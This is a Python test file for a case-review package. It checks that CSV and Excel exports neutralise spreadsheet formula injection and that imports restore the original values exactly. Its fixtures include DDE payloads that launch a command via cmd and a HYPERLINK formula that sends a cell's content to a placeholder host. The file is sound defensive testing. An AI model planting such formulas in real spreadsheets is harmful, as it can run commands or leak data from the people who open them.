"""Formula injection (OWASP "CSV Injection"): exported cells never start a formula, and the
neutralising quote is taken off again on import, so a round trip is exact."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from casereview.codebook import default_registry
from casereview.io.exporter import export_file
from casereview.io.formula import TRIGGERS, neutralise, restore
from casereview.io.importer import import_file
from casereview.reports.study import build_study_report
from casereview.reports.xlsx import render_xlsx
from casereview.store.database import Store
from casereview.store.frames import case_table

PACKAGE_DATA = Path(__file__).parents[1] / "src" / "casereview" / "data"
PAYLOADS = {
    "=": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _table(tmp_path: Path, prefix: str) -> Path:
    payload = PAYLOADS[prefix]
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["review_id", "child", "study", "region", "law_type", "law_type_other"])
        w.writerow([f"{prefix}R1", "1", payload, payload, "public_s31", payload])
        # a quote before a formula character is our own neutralising mark, so a stored
        # value that really begins with one is written with a second quote
        w.writerow(["R2", "1", "''" + payload, "'plain", "public_s31", "''" + payload])
    return path


def _risky(value: object) -> bool:
    return isinstance(value, str) and value[:1] in TRIGGERS and value[:1] != ""


@pytest.mark.parametrize("prefix", sorted(PAYLOADS))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_cells_are_neutralised_and_read_back_unchanged(
    any_store: Store, tmp_path: Path, prefix: str, suffix: str
) -> None:
    import_file(any_store, _table(tmp_path, prefix))
    out = tmp_path / f"export{suffix}"
    export_file(any_store, out, "cafcass-scr")
    if suffix == ".csv":
        with out.open(newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
    else:
        book = openpyxl.load_workbook(out)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
        cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if _risky(c)]
    assert "'" + PAYLOADS[prefix] in cells  # shown as text, with the quote OWASP advises
    cb = default_registry().get("cafcass-scr")
    fresh = Store.open(f"sqlite:///{tmp_path / 'fresh.db'}")
    try:
        import_file(fresh, out)
        pd.testing.assert_frame_equal(case_table(any_store, cb), case_table(fresh, cb))
        again = case_table(fresh, cb).set_index("review_id")
    finally:
        fresh.close()
    assert again.loc[f"{prefix}R1", "region"] == PAYLOADS[prefix]
    assert again.loc["R2", "study"] == "'" + PAYLOADS[prefix]
    assert again.loc["R2", "region"] == "'plain"


@pytest.mark.parametrize("prefix", list(TRIGGERS))
@pytest.mark.parametrize(
    "body", ["cmd|' /C calc'!A0", "'=1+2", "", "''x"]
)
def test_every_prefix_is_neutralised_and_restored_exactly(prefix: str, body: str) -> None:
    value = prefix + body
    written = neutralise(value)
    assert written[:1] == "'"
    assert restore(written) == value
    # values that merely begin with quotes survive as well
    assert restore(neutralise("'" + value)) == "'" + value


def test_plain_numbers_and_ordinary_text_are_left_alone() -> None:
    for value in ("-3", "+2.5", "-0.08", "1e-3", "London", "'quoted", "a=b"):
        assert neutralise(value) == value
        assert restore(value) == value


def test_report_workbook_has_no_formula_from_a_study_name(tmp_path: Path) -> None:
    frame = pd.read_csv(PACKAGE_DATA / "cafcass-2009-2016.csv", dtype=str, keep_default_na=False)
    names = {"cafcass-2012": PAYLOADS["="], "cafcass-2013": PAYLOADS["@"]}
    frame["study"] = frame["study"].map(lambda s: names.get(s, s))
    source = tmp_path / "studies.csv"
    frame.to_csv(source, index=False)
    store = Store.open(f"sqlite:///{tmp_path / 'r.db'}")
    try:
        import_file(store, source)
        data = render_xlsx(build_study_report(store))
    finally:
        store.close()
    path = tmp_path / "tables.xlsx"
    path.write_bytes(data)
    book = openpyxl.load_workbook(path)
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert not [t for t in texts if _risky(t)]
    assert any(isinstance(t, str) and PAYLOADS["="] in t for t in texts)
